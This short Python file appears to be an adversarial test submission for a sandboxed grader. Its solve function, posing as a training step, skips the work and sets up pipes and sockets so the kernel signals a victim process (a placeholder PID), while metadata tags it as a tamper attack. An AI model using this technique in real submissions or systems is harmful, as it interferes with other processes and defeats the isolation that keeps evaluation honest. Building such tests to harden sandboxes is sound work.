"""Has the kernel send signals for it: to whoever owns a descriptor, when there is something to read"""

import contextlib
import fcntl
import os
import signal
import socket

ATTACK = {
    "group": "tamper",
    "verdicts": ["wrong-answer"],
    "witness": "victim",
    "bound_s": 5,
}
F_SETSIG = 10


def solve(seed, x_batch, y_batch, lr):
    pairs = [os.pipe()]
    with contextlib.suppress(OSError):
        pairs.append(tuple(end.detach() for end in socket.socketpair()))
    for reading, writing in pairs:
        for owner in (int("@VICTIM_PID@"), -int("@VICTIM_PID@")):
            with contextlib.suppress(OSError):
                fcntl.fcntl(reading, fcntl.F_SETOWN, owner)
            with contextlib.suppress(OSError):
                fcntl.fcntl(reading, F_SETSIG, signal.SIGUSR1)
            with contextlib.suppress(OSError):
                fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(writing, b"!")
    return [0.0, 0.0]
